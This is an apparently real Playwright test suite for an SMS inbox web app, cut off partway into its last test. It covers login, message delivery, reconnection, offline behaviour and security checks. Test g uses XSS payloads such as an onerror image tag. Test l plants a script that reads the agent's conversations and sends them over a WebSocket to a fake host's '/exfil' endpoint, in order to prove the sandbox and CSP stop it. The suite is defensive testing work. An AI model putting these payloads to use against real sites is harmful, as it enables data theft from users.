// Browser tests of the smsdesk inbox: the Node original's "Success Checklist", walked in a real Chromium
// (driven by playwright-core) against the real server binary in simulator mode.
//
//   cd tests/browser && npm ci && cd ../.. && node tests/browser/run.mjs
//
// Environment:
//   SMSDESK_BIN  server binary            (default /var/tmp/smsdesk-target/debug/smsdesk)
//   CHROMIUM     Chromium executable      (default /usr/bin/chromium)
//   TEST_OUTPUT  screenshots and logs     (default <repo>/test-output/browser/)
//   CI           set: a missing Chromium (or playwright-core) fails the run instead of skipping it
//
// Every test starts its own server on a free port with a fresh SQLite database (agents created with
// `smsdesk agent add`), opens its own browser context, and stops both at the end.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import { readdirSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import {
  ALICE,
  FAILING_NUMBER,
  Server,
  assertCleanConsole,
  badge,
  badgeHistory,
  browser,
  bubbleHistory,
  bubbles,
  listRows,
  loginThroughForm,
  newPage,
  openConversationRow,
  openInbox,
  quietFor,
  recordBadge,
  recordBubbles,
  rgb,
  shot,
  sleep,
  startConversation,
  startFakeTwilio,
  twilioSignature,
  typeAndSend,
  waitConnecting,
  waitLive,
  waitUntil,
  withServer,
} from './lib.mjs';


test('a. sign in through the form → /agent/messages, Live badge, the Node original’s console lines', { timeout: 45_000 }, async () => {
  await withServer('a login live badge', async ({ server, page, rec }) => {
    // Without a session the inbox sends us to the sign-in page.
    await page.goto(`${server.base}/agent/messages`);
    await page.waitForURL(/\/login$/);

    // A wrong password is refused with a readable message.
    await loginThroughForm(page, server, { password: 'not-the-password' });
    await page.waitForSelector('#login-error:not([hidden])');
    assert.match(await page.textContent('#login-error'), /wrong email or password/i);
    assert.equal(new URL(page.url()).pathname, '/login');
    rec.console.length = 0; // the 401 of the refused sign-in is logged by Chromium on purpose
    await shot(page, '01-login-error.png');

    await loginThroughForm(page, server);
    await page.waitForURL(/\/agent\/messages/);
    await waitLive(page);
    const b = await badge(page);
    assert.deepEqual(b, { state: 'live', text: 'Live' });
    const color = rgb(await page.$eval('#live-badge', (el) => getComputedStyle(el).color));
    const bg = rgb(await page.$eval('#live-badge', (el) => getComputedStyle(el).backgroundColor));
    const green = (c) => c && c[1] > c[0] && c[1] > c[2];
    assert.ok(green(color) || green(bg), `the Live badge is green (color ${color}, background ${bg})`);

    // The seed's "Step 1" banner.
    for (const want of ['Server ready!', `Local:    http://localhost:${server.port}`, 'Socket.io: Enabled', '[Socket.io] 🚀 Server initialized']) {
      assert.ok(server.output.includes(want), `the server printed ${JSON.stringify(want)}`);
    }

    const { agent } = await server.apiLogin();
    const lines = rec.console.map((c) => c.text);
    for (const want of ['[useSocket] ✅ Connected to server', `[useSocket] Joined room: user:${agent.id}`, '[Messages] Setting up WebSocket listeners']) {
      assert.ok(lines.includes(want), `console shows ${JSON.stringify(want)}; got:\n${lines.join('\n')}`);
    }
    assert.equal(await page.textContent('#agent-name'), ALICE.name);
    await shot(page, '02-inbox-empty-live.png');
    assertCleanConsole(rec);
  });
});

test('b. new conversation, send: instant bubble with spinner → ✓ sent → ✓✓ delivered (blue), one bubble', { timeout: 45_000 }, async () => {
  await withServer('b send delivered', async ({ server, context, page, rec }) => {
    await openInbox(context, page, server);
    await startConversation(page, '(415) 555-0123', 'Jane Doe', { screenshot: '03a-new-conversation-dialog.png' });
    assert.equal(await page.textContent('#thread-title'), 'Jane Doe');
    assert.match(await page.textContent('#thread-subtitle'), /415/);

    // The composer counts characters and segments.
    await page.fill('#composer-input', 'Hello');
    assert.match(await page.textContent('#segment-counter'), /5\s*\/\s*160/);

    await recordBubbles(page);
    const body = `Hello from the browser test ${Date.now()}`;
    const sentAt = await typeAndSend(page, body);
    const first = await page.waitForSelector('#thread .bubble.outbound .status .spinner', { timeout: 2000 });
    assert.ok(first, 'the bubble shows a spinner at once');
    assert.equal(await page.inputValue('#composer-input'), '', 'the composer is cleared');

    await page.waitForSelector('#thread .bubble.outbound[data-status=delivered]', { timeout: 8000 });
    const hist = (await bubbleHistory(page)).filter((h) => h.body === body);
    assert.ok(hist.length > 0, 'the bubble was recorded');
    const appearedMs = hist[0].t - sentAt;
    assert.ok(appearedMs < 1000, `the bubble appeared ${appearedMs} ms after Enter (want < 1 s)`);
    assert.ok(['pending', 'queued', 'sending'].includes(hist[0].status) && hist[0].spinner, `first state is a spinner: ${JSON.stringify(hist[0])}`);
    console.log(`# b: ${hist.map((h) => `${h.status}${h.spinner ? ' (spinner)' : ` ${h.statusText}`} at ${h.t - sentAt} ms`).join(' → ')}`);
    const order = hist.map((h) => (h.spinner ? 'spinner' : h.statusText));
    const iSpin = order.indexOf('spinner');
    const iSent = order.indexOf('✓');
    const iDelivered = order.indexOf('✓✓');
    assert.ok(iSpin === 0 && iSent > iSpin && iDelivered > iSent, `spinner → ✓ → ✓✓, got ${JSON.stringify(hist.map((h) => [h.status, h.spinner ? 'spinner' : h.statusText, h.t - sentAt]))}`);
    const sentRow = hist[iSent];
    assert.equal(sentRow.status, 'sent');
    assert.match(sentRow.statusClass, /status-sent/);
    // Every snapshot of this message was the same element key (clientId), so it never became a second bubble.
    assert.equal(new Set(hist.map((h) => h.key)).size, 1, 'one bubble key throughout');

    const all = (await bubbles(page)).filter((b) => b.body === body);
    assert.equal(all.length, 1, 'exactly one bubble for the message');
    const [bub] = all;
    assert.equal(bub.statusText, '✓✓');
    assert.match(bub.statusClass, /status-delivered/);
    assert.ok(bub.id, 'the bubble has the server id');
    const c = rgb(await page.$eval('#thread .bubble.outbound[data-status=delivered] .status', (el) => getComputedStyle(el).color));
    assert.ok(c && c[2] > c[0] + 40 && c[2] > c[1], `✓✓ is blue: rgb(${c})`);
    await shot(page, '03-sent-delivered-thread.png');

    // Still one bubble after a reload (the server has the same message, merged by clientId / id).
    await page.reload();
    await waitLive(page);
    await openConversationRow(page, 'Jane Doe');
    await page.waitForSelector('#thread .bubble.outbound');
    const again = (await bubbles(page)).filter((b) => b.body === body);
    assert.equal(again.length, 1, 'one bubble after reload');
    assert.equal(again[0].status, 'delivered');
    assertCleanConsole(rec);
  });
});

test('c. an inbound SMS appears in the open thread without reload; the list updates', { timeout: 45_000 }, async () => {
  await withServer('c inbound live', async ({ server, context, page, rec }) => {
    const { token } = await openInbox(context, page, server);
    await server.simulateInbound(token, { from: '+14155550123', body: 'First message from Jane' });
    await server.simulateInbound(token, { from: '+12125550100', body: 'Hi from Bob' });
    // Both arrive live: no reload.
    await page.waitForFunction(() => document.querySelectorAll('#conversation-list .conversation').length === 2);
    let rows = await listRows(page);
    assert.equal(rows[0].preview, 'Hi from Bob', 'newest conversation first');
    assert.equal(rows[0].unread, 1);
    assert.equal(rows[1].preview, 'First message from Jane');
    assert.equal(rows[1].unread, 1);
    assert.equal(await page.title(), '(2) Messages · smsdesk');

    await openConversationRow(page, '555-0123');
    await page.waitForSelector('#thread .bubble.inbound');
    await page.waitForFunction(() => !document.querySelector('#conversation-list .conversation.active .unread-badge:not([hidden])'));

    await recordBubbles(page);
    const t0 = Date.now();
    await server.simulateInbound(token, { from: '+14155550123', body: 'Are you there? 👋' });
    await page.waitForFunction(() => [...document.querySelectorAll('#thread .bubble.inbound .body')].some((b) => b.textContent === 'Are you there? 👋'), null, {
      timeout: 3000,
    });
    const arrived = (await bubbleHistory(page)).find((h) => h.body === 'Are you there? 👋');
    assert.match(server.output, /\[Socket\.io\] 📤 Emitted new message to user:\d+/, 'the server logs the emit');
    assert.ok(arrived.t - t0 < 2000, `shown ${arrived.t - t0} ms after the webhook`);
    const inThread = (await bubbles(page)).filter((b) => b.direction === 'inbound');
    assert.deepEqual(
      inThread.map((b) => b.body),
      ['First message from Jane', 'Are you there? 👋'],
    );

    // The list moved Jane's conversation to the top with the new preview, and it is not unread (open).
    await page.waitForFunction(() => document.querySelector('#conversation-list .conversation .conversation-preview')?.textContent === 'Are you there? 👋');
    rows = await listRows(page);
    assert.equal(rows[0].preview, 'Are you there? 👋');
    assert.equal(rows[0].active, true);
    assert.equal(rows[0].unread, 0);
    assert.equal(rows[1].preview, 'Hi from Bob');
    assert.equal(rows[1].unread, 1);

    // A reply from the thread to finish the picture, then the screenshot of an inbox with conversations.
    await typeAndSend(page, 'Yes! How can I help?');
    await page.waitForSelector('#thread .bubble.outbound[data-status=delivered]', { timeout: 8000 });
    await shot(page, '04-inbox-with-conversations.png');

    // An inbound SMS for a conversation that is not open raises its unread count live.
    await server.simulateInbound(token, { from: '+12125550100', body: 'Bob again' });
    await page.waitForFunction(() => {
      const first = document.querySelector('#conversation-list .conversation');
      return first?.querySelector('.conversation-preview')?.textContent === 'Bob again' && first.querySelector('.unread-badge')?.textContent === '2';
    });
    assertCleanConsole(rec);
  });
});

test('d. server stopped → Connecting...; restarted → Live within 2 s, nothing missed', { timeout: 60_000 }, async () => {
  await withServer('d server restart', async ({ server, context, page, rec }) => {
    const { token } = await openInbox(context, page, server);
    await server.simulateInbound(token, { from: '+14155550123', body: 'Before the restart' });
    await page.waitForSelector('#conversation-list .conversation');
    await openConversationRow(page, '555-0123');
    await page.waitForSelector('#thread .bubble.inbound');
    await recordBadge(page);

    const stoppedAt = Date.now();
    await server.stop('SIGTERM');
    await waitConnecting(page, 5000);
    const down = (await badgeHistory(page)).find((h) => h.state === 'connecting');
    assert.ok(down, 'the badge went to Connecting...');
    console.log(`# d: Connecting... shown ${down.t - stoppedAt} ms after SIGTERM`);
    await shot(page, '05-connecting.png');

    // While the server is down, an agent sends: the bubble waits with its spinner and is sent later.
    await typeAndSend(page, 'Sent while the server was down');
    await page.waitForSelector('#thread .bubble.outbound .status .spinner');
    await shot(page, '05b-connecting-pending-send.png');
    // Let socket.io back off to its maximum delay before the server comes back.
    await sleep(3000);
    assert.equal((await badge(page)).state, 'connecting');

    const upAt = await server.start();
    // Right after the restart, before (or while) the page reconnects: an inbound SMS.
    await server.simulateInbound(token, { from: '+14155550123', body: 'Sent right after the restart' });
    await waitLive(page, 5000);
    const live = (await badgeHistory(page)).filter((h) => h.state === 'live').pop();
    const reconnectMs = live.t - upAt;
    console.log(`# d: Live again ${reconnectMs} ms after /healthz answered`);
    // 2 s is the page's reconnectionDelayMax (docs/api.md, "socket.io"); 250 ms of slack for /healthz polling and the handshake.
    assert.ok(reconnectMs <= 2250, `Live ${reconnectMs} ms after the server was back (want ≤ 2 s)`);

    await page.waitForFunction(() => [...document.querySelectorAll('#thread .bubble .body')].some((b) => b.textContent === 'Sent right after the restart'), null, {
      timeout: 5000,
    });
    await page.waitForSelector('#thread .bubble.outbound[data-status=delivered]', { timeout: 10_000 });
    const all = await bubbles(page);
    assert.deepEqual(
      all.map((b) => `${b.direction}: ${b.body}`).sort(),
      ['inbound: Before the restart', 'inbound: Sent right after the restart', 'outbound: Sent while the server was down'],
      'each message exactly once',
    );

    // A crash (SIGKILL: no goodbye on the socket) is noticed just the same.
    const killedAt = Date.now();
    await server.stop('SIGKILL');
    await waitConnecting(page, 5000);
    const down2 = (await badgeHistory(page)).filter((h) => h.state === 'connecting').pop();
    console.log(`# d: Connecting... shown ${down2.t - killedAt} ms after SIGKILL`);
    await sleep(2500);
    const upAt2 = await server.start();
    await server.simulateInbound(token, { from: '+14155550123', body: 'After the crash' });
    await waitLive(page, 5000);
    const live2 = (await badgeHistory(page)).filter((h) => h.state === 'live').pop();
    console.log(`# d: Live again ${live2.t - upAt2} ms after /healthz answered (after SIGKILL)`);
    assert.ok(live2.t - upAt2 <= 2250, `Live ${live2.t - upAt2} ms after the server was back (want ≤ 2 s)`);
    await page.waitForFunction(() => [...document.querySelectorAll('#thread .bubble .body')].some((b) => b.textContent === 'After the crash'), null, {
      timeout: 5000,
    });
    assert.equal((await bubbles(page)).length, 4, 'four messages, none twice');
    assert.deepEqual(rec.errors, []);
    assert.deepEqual(rec.dialogs, []);
  });
});

test('e. network offline → Connecting...; back online → Live again', { timeout: 60_000 }, async () => {
  await withServer('e offline online', async ({ server, context, page, rec }) => {
    const { token } = await openInbox(context, page, server);
    await server.simulateInbound(token, { from: '+14155550123', body: 'Hello before going offline' });
    await page.waitForSelector('#conversation-list .conversation');
    await openConversationRow(page, '555-0123');
    await recordBadge(page);

    const offAt = Date.now();
    await context.setOffline(true);
    await waitConnecting(page, 25_000);
    const down = (await badgeHistory(page)).find((h) => h.state === 'connecting');
    console.log(`# e: Connecting... shown ${down.t - offAt} ms after going offline`);
    assert.equal(await page.evaluate(() => navigator.onLine), false);

    // Offline for a while: the page must not claim to be Live.
    await server.simulateInbound(token, { from: '+14155550123', body: 'Sent while the browser was offline' });
    await sleep(3000);
    const during = (await badgeHistory(page)).filter((h) => h.t > down.t);
    assert.ok(
      during.every((h) => h.state === 'connecting'),
      `stayed Connecting... while offline: ${JSON.stringify(during)}`,
    );
    await shot(page, '06-offline-connecting.png');

    const onAt = Date.now();
    await context.setOffline(false);
    await waitLive(page, 10_000);
    const live = (await badgeHistory(page)).filter((h) => h.state === 'live').pop();
    console.log(`# e: Live again ${live.t - onAt} ms after going back online`);
    assert.ok(live.t - onAt <= 3000, `Live ${live.t - onAt} ms after going online`);
    // What arrived while offline comes through the sync.
    await page.waitForFunction(
      () => [...document.querySelectorAll('#thread .bubble .body')].some((b) => b.textContent === 'Sent while the browser was offline'),
      null,
      { timeout: 5000 },
    );
    assert.deepEqual(rec.errors, []);
  });
});

test('f. idle 30 s on the inbox: no HTTP requests at all (no polling)', { timeout: 60_000 }, async () => {
  await withServer('f idle no polling', async ({ server, context, page, rec }) => {
    const { token } = await openInbox(context, page, server);
    await server.simulateInbound(token, { from: '+14155550123', body: 'Something to look at' });
    await page.waitForSelector('#conversation-list .conversation');
    await openConversationRow(page, '555-0123');
    await page.waitForSelector('#thread .bubble.inbound');
    // Let the page's own requests (thread page, mark read…) finish: 1.5 s without any request.
    await quietFor(page, 1500);

    const requests = [];
    const sockets = [];
    const onRequest = (r) => {
      if (r.resourceType() === 'websocket' || r.url().startsWith('data:')) return;
      requests.push(`${r.method()} ${r.url()} (${r.resourceType()})`);
    };
    const onSocket = (ws) => sockets.push(ws.url());
    page.on('request', onRequest);
    page.on('websocket', onSocket);
    let framesIn = 0;
    // The socket stays open and alive (socket.io pings) while idle: count the frames it carries.
    const cdp = await context.newCDPSession(page);
    await cdp.send('Network.enable');
    cdp.on('Network.webSocketFrameReceived', () => (framesIn += 1));

    const IDLE_MS = 30_000;
    await sleep(IDLE_MS);
    page.off('request', onRequest);
    page.off('websocket', onSocket);
    await cdp.detach();

    assert.deepEqual(requests, [], `HTTP requests while idle for ${IDLE_MS / 1000} s`);
    assert.deepEqual(sockets, [], 'no new WebSocket (no reconnect) while idle');
    assert.deepEqual(await badge(page), { state: 'live', text: 'Live' });
    console.log(`# f: 0 HTTP requests in ${IDLE_MS / 1000} s idle; ${framesIn} WebSocket frames received (heartbeats)`);
    assertCleanConsole(rec);
  });
});

test('g. message text is text: <img src=x onerror=alert(1)> is shown literally', { timeout: 45_000 }, async () => {
  await withServer('g xss as text', async ({ server, context, page, rec }) => {
    const { token } = await openInbox(context, page, server);
    const evil = '<img src=x onerror=alert(1)>';
    const evilName = '<b>Mallory</b>';
    await server.simulateInbound(token, { from: '+14155550123', body: evil });
    await page.waitForSelector('#conversation-list .conversation');
    await openConversationRow(page, '555-0123');
    await page.waitForSelector('#thread .bubble.inbound');
    // The same from our side, typed in the composer.
    await typeAndSend(page, `${evil} & <script>alert(2)</script>`);
    await page.waitForSelector('#thread .bubble.outbound[data-status=delivered]', { timeout: 8000 });
    // And as a contact name.
    await startConversation(page, '+12125550100', evilName);
    assert.equal(await page.textContent('#thread-title'), evilName);
    await openConversationRow(page, '555-0123');
    await page.waitForSelector('#thread .bubble.inbound');

    const inbound = (await bubbles(page)).filter((b) => b.direction === 'inbound');
    assert.equal(inbound.length, 1);
    assert.equal(inbound[0].body, evil);
    const outbound = (await bubbles(page)).filter((b) => b.direction === 'outbound');
    assert.equal(outbound[0].body, `${evil} & <script>alert(2)</script>`);
    assert.equal(await page.$$eval('img[src="x"], #thread img, #thread script, #conversation-list img, #conversation-list b', (els) => els.length), 0);
    const rows = await listRows(page);
    assert.ok(rows.some((r) => r.name === evilName), 'the name is shown as text in the list');
    assert.ok(
      rows.some((r) => r.preview.includes('<img src=x')),
      'the preview is shown as text',
    );
    await sleep(500); // an onerror handler would have run by now
    assert.equal(await page.evaluate(() => window.__xss === undefined), true);
    assert.deepEqual(rec.dialogs, [], 'no alert() ran');
    await shot(page, '07-html-as-text.png');
    assertCleanConsole(rec);
  });
});

test('h. Twilio refusal (21211): red bubble with the error in words, Retry → POST …/retry 202, a new attempt', { timeout: 45_000 }, async () => {
  await withServer('h failed retry', async ({ server, context, page, rec }) => {
    await openInbox(context, page, server);
    await startConversation(page, FAILING_NUMBER);
    await recordBubbles(page);
    const body = 'This one cannot be delivered';
    await typeAndSend(page, body);
    await page.waitForSelector('#thread .bubble.outbound[data-status=failed]', { timeout: 8000 });
    const firstHist = (await bubbleHistory(page)).filter((h) => h.body === body);
    assert.ok(firstHist[0]?.spinner, `the bubble started with a spinner: ${JSON.stringify(firstHist)}`);
    console.log(`# h: statuses shown: ${firstHist.map((h) => h.status).join(' → ')} (failed after ${firstHist.at(-1).t - firstHist[0].t} ms)`);

    let all = await bubbles(page);
    assert.equal(all.length, 1);
    const [failed] = all;
    assert.ok(failed.id, 'the failed message has its id');
    assert.ok(failed.errorShown, 'the error line is shown');
    assert.ok(failed.retryShown, 'a Retry button is shown');
    assert.match(failed.statusClass, /status-failed/);
    assert.ok(!/^error \d+$/i.test(failed.errorText.trim()) && failed.errorText.trim().length > 10, `the error is in words: ${JSON.stringify(failed.errorText)}`);
    console.log(`# h: error shown: ${JSON.stringify(failed.errorText)}`);
    const red = rgb(
      await page.$eval('#thread .bubble.outbound[data-status=failed]', (el) => {
        const s = getComputedStyle(el.querySelector('.error-text'));
        return s.color;
      }),
    );
    assert.ok(red && red[0] > red[1] + 60 && red[0] > red[2] + 60, `the error is red: rgb(${red})`);
    await shot(page, '08-failed-with-retry.png');

    const retryResponse = page.waitForResponse((r) => r.request().method() === 'POST' && /\/api\/crm\/sms\/messages\/[^/]+\/retry$/.test(new URL(r.url()).pathname));
    await page.click(`#thread .bubble[data-id="${failed.id}"] .retry-button`);
    const res = await retryResponse;
    assert.equal(new URL(res.url()).pathname, `/api/crm/sms/messages/${failed.id}/retry`);
    assert.equal(res.status(), 202, 'POST …/retry → 202');
    const retried = (await res.json()).message;
    assert.ok(retried && retried.id && retried.id !== failed.id, `the retry is a new message: ${JSON.stringify(retried)}`);
    assert.equal(retried.body, body);

    // The new attempt gets its own bubble, which fails too (same number): two red bubbles.
    await page.waitForFunction(() => document.querySelectorAll('#thread .bubble.outbound[data-status=failed]').length === 2, null, { timeout: 8000 });
    all = await bubbles(page);
    assert.equal(all.length, 2, 'exactly two bubbles: the first attempt and the retry');
    assert.equal(all[0].id, failed.id);
    assert.equal(all[1].id, String(retried.id));
    assert.equal(all[0].retryShown, false, 'the retried message offers no second retry');
    assert.equal(all[1].retryShown, true, 'the new failed attempt can be retried');
    const hist = (await bubbleHistory(page)).filter((h) => h.key === all[1].key);
    assert.ok(hist[0].spinner, 'the retry bubble started with a spinner');
    await shot(page, '09-retry-failed-again.png');
    assertCleanConsole(rec);
  });
});

test('i. phone width (390×844): list, thread and back', { timeout: 45_000 }, async () => {
  await withServer(
    'i phone width',
    async ({ server, context, page, rec }) => {
      const { token } = await openInbox(context, page, server);
      await server.simulateInbound(token, { from: '+14155550123', body: 'Hi! Is the apartment on 5th street still available? I would love to visit this weekend.' });
      await server.simulateInbound(token, { from: '+12125550100', body: 'Thanks, see you tomorrow' });
      await server.simulateInbound(token, { from: '+13105550199', body: 'STOP' });
      await page.waitForFunction(() => document.querySelectorAll('#conversation-list .conversation').length === 3);
      const noHorizontalScroll = () => page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth);
      assert.ok(await noHorizontalScroll(), 'no horizontal scroll on the list');
      assert.ok(await page.isVisible('#new-conversation-button'));
      await shot(page, '10-phone-list.png');

      await openConversationRow(page, '555-0123');
      await page.waitForSelector('#thread .bubble.inbound');
      assert.equal(await page.getAttribute('#app', 'data-pane'), 'thread');
      assert.ok(await page.isVisible('#back-button'), 'a back button on phones');
      assert.equal(await page.isVisible('#conversation-list'), false, 'the list is hidden behind the thread');
      await typeAndSend(page, 'Yes, it is! Saturday at 10 works.');
      await page.waitForSelector('#thread .bubble.outbound[data-status=delivered]', { timeout: 8000 });
      const composer = await page.$eval('#composer', (el) => el.getBoundingClientRect().toJSON());
      assert.ok(composer.bottom <= 844 + 1 && composer.top > 0, `the composer is on screen: ${JSON.stringify(composer)}`);
      assert.ok(await noHorizontalScroll(), 'no horizontal scroll in the thread');
      await shot(page, '11-phone-thread.png');

      await page.click('#back-button');
      await page.waitForFunction(() => document.querySelector('#app').dataset.pane === 'list');
      assert.ok(await page.isVisible('#conversation-list'));

      await openConversationRow(page, '555-0199');
      await page.waitForSelector('#opted-out-banner', { state: 'visible' });
      assert.equal(await page.isDisabled('#composer-input'), true, 'cannot type to an opted-out contact');
      await shot(page, '12-phone-opted-out.png');
      assertCleanConsole(rec);
    },
    { viewport: { width: 390, height: 844 } },
  );
});

test('j. logging out, or losing the session, leaves no queued send in localStorage; a reload while signed in keeps it', { timeout: 60_000 }, async () => {
  await withServer('j sign-out forgets queued sends', async ({ server, context, page, rec }) => {
    const { agent } = await openInbox(context, page, server);
    await startConversation(page, '+14155550123', 'Jane Doe');
    const stored = () =>
      page.evaluate(() => Object.fromEntries(Object.keys(localStorage).filter((k) => k.startsWith('smsdesk.')).map((k) => [k, localStorage.getItem(k)])));
    const queued = async () => JSON.parse((await stored())[`smsdesk.outbox.${agent.id}`] ?? '[]').map((e) => e.payload.body);
    // Sends cannot get through (the rest of the page can): each message waits in the queue.
    const unreachable = (route) => route.abort('internetdisconnected');
    const queue = async (body) => {
      await page.route('**/api/crm/sms/send', unreachable);
      await typeAndSend(page, body);
      await waitUntil(`"${body}" queued in localStorage`, async () => (await queued()).includes(body));
    };

    // Signed in: a reload keeps the queued send, shows it, and sends it once it can.
    await queue('Queued across a reload');
    await page.reload();
    await waitLive(page);
    await page.waitForSelector('#thread .bubble.outbound .status .spinner');
    assert.deepEqual(await queued(), ['Queued across a reload']);
    await page.unroute('**/api/crm/sms/send', unreachable);
    await page.waitForSelector('#thread .bubble.outbound[data-status=delivered]', { timeout: 10_000 });
    await waitUntil('the delivered send to leave the queue', async () => (await queued()).length === 0);

    // Log out with a send still queued: nothing of ours stays in localStorage.
    await queue('Queued at logout');
    await page.click('#logout-button');
    await page.waitForURL(/\/login$/);
    assert.deepEqual(await stored(), {}, 'localStorage after logout');

    // Signed in again, the session ends elsewhere: the queued send's next attempt gets 401, and the page
    // leaves for /login the same way.
    const { token } = await openInbox(context, page, server);
    await openConversationRow(page, 'Jane Doe');
    await queue('Queued when the session ends');
    const res = await fetch(`${server.base}/api/auth/logout`, { method: 'POST', headers: { Authorization: `Bearer ${token}` } });
    assert.equal(res.status, 204);
    await page.unroute('**/api/crm/sms/send', unreachable);
    await page.waitForURL(/\/login\?session=ended$/, { timeout: 20_000 });
    assert.match(await page.textContent('#login-notice'), /Your session has ended/);
    assert.deepEqual(await stored(), {}, 'localStorage after the 401');
    assert.deepEqual(rec.errors, []);
    assert.deepEqual(rec.dialogs, []);
  });
});

test('k. the page\'s modules are preloaded and fetched once; a reload revalidates them (304)', { timeout: 45_000 }, async () => {
  await withServer('k modules revalidate', async ({ server, context, page, rec }) => {
    const fetched = [];
    page.on('response', (r) => {
      const url = new URL(r.url());
      if (url.origin === server.base && /\.(js|css)$/.test(url.pathname)) fetched.push({ path: url.pathname, status: r.status() });
    });
    await openInbox(context, page, server);
    const preloaded = await page.$$eval('link[rel=modulepreload]', (links) => links.map((l) => new URL(l.href).pathname));
    assert.ok(preloaded.includes('/js/store.js') && preloaded.includes('/vendor/socket.io.esm.min.js'), `preloaded: ${preloaded}`);
    const files = ['/app.css', '/app.js', ...preloaded].sort();
    const first = fetched.splice(0);
    assert.deepEqual(first.map((f) => f.path).sort(), files, 'each file fetched once (the preloads are the imports)');
    assert.ok(first.every((f) => f.status === 200), JSON.stringify(first));

    await page.reload();
    await waitLive(page);
    const again = fetched.splice(0);
    assert.deepEqual(again.map((f) => f.path).sort(), files);
    assert.deepEqual(again.filter((f) => f.status !== 304), [], 'revalidated, not downloaded again');
    assertCleanConsole(rec);
  });
});

test('l. an HTML media item is a sandboxed download: no script runs on our origin; the CSP stops websockets to other hosts', { timeout: 45_000 }, async () => {
  const fake = await startFakeTwilio();
  const token = 'fake-auth-token';
  try {
    await withServer(
      'l media xss',
      async ({ server, context, page, rec }) => {
        // The attacker's MMS: an HTML page that loads the second media item as a same-origin
        // script, which reads the agent's data and ships it out over a websocket.
        fake.media.set(
          '/media/evil.html',
          { type: 'text/html; charset=utf-8', body: '<!doctype html><title>evil</title><script src="1"></script>' },
        );
        fake.media.set('/media/evil.js', {
          type: 'application/javascript',
          body: `localStorage.setItem('pwned', location.origin);
            if (window.opener) window.opener.postMessage('pwned', '*');
            fetch('/api/crm/sms/conversations').then((r) => r.text()).then((t) => {
              localStorage.setItem('stolen', t);
              const ws = new WebSocket('${fake.url.replace('http', 'ws')}/exfil');
              ws.onopen = () => ws.send(t);
            });`,
        });
        await openInbox(context, page, server);
        await page.evaluate(() => window.addEventListener('message', (e) => (window.__opener = e.data)));

        const params = {
          MessageSid: `MM${crypto.randomBytes(16).toString('hex')}`,
          AccountSid: 'ACfeedfacefeedfacefeedfacefeedface',
          From: '+14155550123',
          To: ALICE.number,
          Body: 'Photos of the apartment',
          NumMedia: '2',
          MediaUrl0: `${fake.url}/media/evil.html`,
          MediaContentType0: 'image/jpeg',
          MediaUrl1: `${fake.url}/media/evil.js`,
          MediaContentType1: 'image/png',
        };
        const hook = await fetch(`${server.base}/api/crm/sms/webhook`, {
          method: 'POST',
          headers: {
            'Content-Type': 'application/x-www-form-urlencoded',
            'X-Twilio-Signature': twilioSignature(token, `http://localhost:${server.port}/api/crm/sms/webhook`, params),
          },
          body: new URLSearchParams(params),
        });
        assert.equal(hook.status, 200, 'the signed webhook is stored');
        await page.waitForSelector('#conversation-list .conversation');
        await openConversationRow(page, '555-0123');
        // Neither item is an image: the page shows "Image unavailable" links.
        await page.waitForFunction(() => document.querySelectorAll('#thread .media-image .media-missing').length === 2);
        const href = await page.getAttribute('#thread .media-image >> nth=0', 'href');
        assert.match(href, /^\/api\/crm\/sms\/messages\/\d+\/media\/0$/);

        // The victim clicks the first link.
        const downloads = [];
        const onPage = (p) => p.on('download', (d) => downloads.push(d));
        page.on('download', (d) => downloads.push(d));
        context.on('page', onPage);
        await page.click('#thread .media-image >> nth=0');
        const pwned = () => page.evaluate(() => localStorage.getItem('pwned'));
        await waitUntil('the click to end in a download or in the script running', async () => downloads.length > 0 || (await pwned()) !== null);
        context.off('page', onPage);
        assert.equal(await pwned(), null, 'no media script ran on our origin');
        assert.equal(downloads.length, 1, 'the HTML was downloaded, not rendered');
        assert.match(downloads[0].suggestedFilename(), /^media-\d+-0\.bin$/);
        await downloads[0].cancel().catch(() => {});

        for (const n of [0, 1]) {
          const res = await context.request.get(`${server.base}${href.replace(/0$/, String(n))}`);
          assert.equal(res.status(), 200);
          const h = res.headers();
          assert.match(h['content-disposition'], /^attachment; filename="media-\d+-\d\.bin"$/, `media ${n}`);
          assert.equal(h['content-type'], 'application/octet-stream', `media ${n}`);
          assert.equal(h['x-content-type-options'], 'nosniff', `media ${n}`);
          assert.equal(h['content-security-policy'], 'sandbox', `media ${n}`);
        }

        // Nor can any page of ours run the second item as a script (nosniff, not a script type).
        const asScript = await page.evaluate(
          (src) =>
            new Promise((resolve) => {
              const el = document.createElement('script');
              el.src = src;
              el.onload = () => resolve('ran');
              el.onerror = () => resolve('refused');
              document.head.append(el);
            }),
          href.replace(/0$/, '1'),
        );
        assert.equal(asScript, 'refused', 'the media is not usable as a same-origin script');

        // The page may open websockets to its own origin only (it is Live: its own one works).
        const ws = await page.evaluate(
          (url) =>
            new Promise((resolve) => {
              document.addEventListener('securitypolicyviolation', (e) => resolve(`blocked by ${e.effectiveDirective}`), { once: true });
              try {
                const socket = new WebSocket(url);
                socket.onopen = () => resolve('opened');
                socket.onerror = () => setTimeout(() => resolve('failed without a CSP violation'), 2000);
              } catch (e) {
                resolve(`blocked by ${e.name}`);
              }
            }),
          `${fake.url.replace('http', 'ws')}/exfil`,
        );
        assert.ok(ws === 'blocked by connect-src' || ws === 'blocked by SecurityError', `new WebSocket to another host: ${ws}`);
        assert.deepEqual(await badge(page), { state: 'live', text: 'Live' });

        assert.equal(await page.evaluate(() => localStorage.getItem('stolen')), null);
        assert.equal(await page.evaluate(() => window.__opener ?? null), null, 'nothing reached the opener');
        assert.deepEqual(fake.upgrades, [], 'no websocket reached the other host');
        assert.deepEqual(
          fake.requests.filter((r) => !r.startsWith('GET /media/')),
          [],
          'the other host saw nothing but the proxy fetching media',
        );
        assert.deepEqual(rec.errors, []);
        assert.deepEqual(rec.dialogs, []);
      },
      { env: { TWILIO_ACCOUNT_SID: 'ACfeedfacefeedfacefeedfacefeedface', TWILIO_AUTH_TOKEN: token, TWILIO_API_BASE: fake.url } },
    );
  } finally {
    await fake.close();
  }
});

test('m. logging out in one tab ends the other tab\'s live connection: it goes to the login page and shows nothing new', { timeout: 45_000 }, async () => {
  await withServer('m logout ends other tabs', async ({ server, context, page, rec }) => {
    await openInbox(context, page, server);
    const other = await context.newPage();
    await other.goto(`${server.base}/agent/messages`);
    await waitLive(other);
    // A session of a script, so the test can still make an SMS arrive after the tabs logged out.
    const { token } = await server.apiLogin();

